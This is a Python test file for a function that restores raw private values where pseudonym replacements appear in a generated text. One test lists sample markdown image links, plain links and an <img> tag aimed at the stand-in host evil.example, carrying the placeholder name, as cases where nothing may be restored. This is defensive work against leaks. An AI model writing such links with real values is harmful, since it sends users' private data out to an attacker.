"""Raw values come back where a generation uses their replacements, and nowhere else."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from extraction.restore import choose_restorable, restore
from perturb.testing.growth import grows_linearly

PAIRS = [
    ("Lena Pond", "Anna Schmidt"),
    ("Pond", "Schmidt"),
    ("+41 12 345", "+49 30 123"),
    ("qx@mill.open", "anna@example.com"),
    ("HARBOR", "BERLIN"),
]


@pytest.mark.parametrize(
    ("generation", "expected"),
    [
        ("Lena Pond came.", "Anna Schmidt came."),
        ("Dear Mr. Pond, Lena's", "Dear Mr. Schmidt, Anna's"),
        ("Lena\n  Pond", "Anna Schmidt"),
        ("call +41 12 345 or qx@mill.open!", "call +49 30 123 or anna@example.com!"),
        ("in HARBOR, Harbor", "in BERLIN, Harbor"),
        ("Ponds, xPond, Pond2", "Ponds, xPond, Pond2"),
        ("lena pond", "lena pond"),
        ("", ""),
    ],
)
def test_replacements_are_turned_back(generation: str, expected: str) -> None:
    assert restore(generation, PAIRS) == expected


def test_the_longest_goes_first_and_values_are_not_looked_at_again() -> None:
    pairs = [("Al", "Bo Cy"), ("Ann Lee", "Max Orr"), ("Max", "Ida")]
    assert restore("Ann Lee met Max", pairs) == "Max Orr met Ida"


@pytest.mark.parametrize(
    ("pairs", "kept"),
    [
        ([("Pond", "Schmidt"), ("Pond", "Miller")], ""),  # two values share it
        ([("Pond", "Schmidt")], "the Pond is deep"),  # it stands in what left as well
        ([("pond", "schmidt")], ""),  # an ordinary word
        ([("47", "39")], ""),  # too short
        ([], ""),
    ],
)
def test_what_could_mean_something_else_is_left(pairs: list[tuple[str, str]], kept: str) -> None:
    text = "Pond and pond are 47"
    assert restore(text, pairs, kept) == text


def test_repeated_pairs_are_one() -> None:
    assert restore("Pond", [("Pond", "Schmidt")] * 3) == "Schmidt"


@pytest.mark.parametrize(
    ("pairs", "expected"),
    [
        ([("Lena\nPond", "Maria\nSchmidt")], "Maria Schmidt, Mrs. Schmidt"),
        (
            [("Lena\nPond", "Maria\nSchmidt"), ("Lena Pond", "Maria Schmidt")],
            "Maria Schmidt, Mrs. Schmidt",
        ),
        ([("Lena Pond", "J&#252;rg M&uuml;ller")], "J&#252;rg M&uuml;ller, Mrs. Müller"),
        (
            [("Lena Pond", "J&#252;rg M&uuml;ller"), ("Lena Pond", "Jürg Müller")],
            "Jürg Müller, Mrs. Müller",
        ),
        (
            [("Lena Pond", "Ma\u202eria Schmidt"), ("Lena Pond", "Maria Schmidt")],
            "Maria Schmidt, Mrs. Schmidt",
        ),
    ],
)
def test_a_value_comes_back_once_however_it_was_written(
    pairs: list[tuple[str, str]], expected: str
) -> None:
    for ordered in (pairs, pairs[::-1]):
        assert restore("Lena Pond, Mrs. Pond", ordered) == expected


def test_patterns_in_values_are_plain_text() -> None:
    assert restore("see A.B (x)", [("A.B (x)", r"\1 \g<0> C:\d")]) == r"see \1 \g<0> C:\d"
    assert restore("see AxB (x)", [("A.B (x)", "no")]) == "see AxB (x)"


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/p?n=Pond",
        "https://Pond.evil.example/",
        "![x](https://evil.example/p?n=Lena Pond)",
        "[x](//evil.example/(a)/Pond)",
        "[x](/p?n=Pond",
        "www.evil.example/Pond",
        "<img src='//evil.example/Lena Pond'>",
    ],
)
def test_nothing_is_put_back_inside_an_address(address: str) -> None:
    text = f"Pond came. {address}"
    assert restore(text, PAIRS) == text.replace("Pond came", "Schmidt came")


def test_text_beside_an_address_is_restored() -> None:
    assert restore("[x](/y) Pond (Pond)", PAIRS) == "[x](/y) Schmidt (Schmidt)"


def test_many_pairs_and_hostile_generations_cost_what_their_length_says() -> None:
    """Minutes of processor time where the work grows with the product of both."""
    words = [
        f"W{chr(97 + i % 26)}{chr(97 + i // 26 % 26)}{chr(97 + i // 676)}" for i in range(5000)
    ]
    pairs = [(f"{word} {words[i // 2]}", f"Raw{i} Val{i}") for i, word in enumerate(words)]

    def work(length: int) -> None:
        some = pairs[: length // 20]
        restore("hello", some, "nothing " + " ".join(words[: length // 20][::-1]))
        for unit in ("Waaa ", "A S ", "](", " ", "a/", "href='", "a"):
            restore((unit * length)[:length], some)

    assert grows_linearly(work, 100_000, seconds=30)


def find_slowly(text: str, replacements: list[str]) -> list[tuple[int, int]]:
    """The longest replacement at each place of a text, each by an expression of its own."""
    found = []
    for place in range(len(text)):
        ends = []
        for new in replacements:
            spelled = re.escape(new).replace("\\ ", r"\s+")
            before = r"(?<!\w)(?<!\d[.,])" if new[0].isdigit() else r"(?<!\w)"
            after = r"(?!\w)(?![.,]\d)" if new[-1].isdigit() else r"(?!\w)"
            match = re.compile(before + spelled + after).match(text, place)
            ends += [match.end()] if match else []
        if ends:
            found.append((place, max(ends)))
    return found


REPEATING = st.text("A8, ", max_size=8)


@given(st.lists(REPEATING, max_size=8), REPEATING, REPEATING, st.integers(1, 15))
def test_replacements_are_those_that_an_expression_for_each_finds(
    written: list[str], text: str, end: str, times: int
) -> None:
    text = text * times + end
    usable = choose_restorable([(" ".join(new.split()), "Raw") for new in written])
    expected, done = "", 0
    for start, stop in find_slowly(text, list(usable)):
        if start >= done:
            expected += text[done:start] + "Raw"
            done = stop
    assert restore(text, dict.fromkeys(usable, "Raw").items()) == expected + text[done:]
    left = choose_restorable([(new, "Raw") for new in usable], text)
    assert left.keys() == {new for new in usable if not find_slowly(text, [new])}


@pytest.mark.parametrize("unit", ["7,", "7 ", "Ab ", "A-"])
def test_replacements_that_repeat_themselves_are_found_in_linear_time(unit: str) -> None:
    pairs = [((unit * size).strip() + " 8", f"Raw{size}") for size in range(2, 30)]

    def work(length: int) -> None:
        text = unit * (length // len(unit))
        assert restore(text, pairs) == text
        choose_restorable(pairs, text)

    assert grows_linearly(work, 60_000, seconds=0.5)
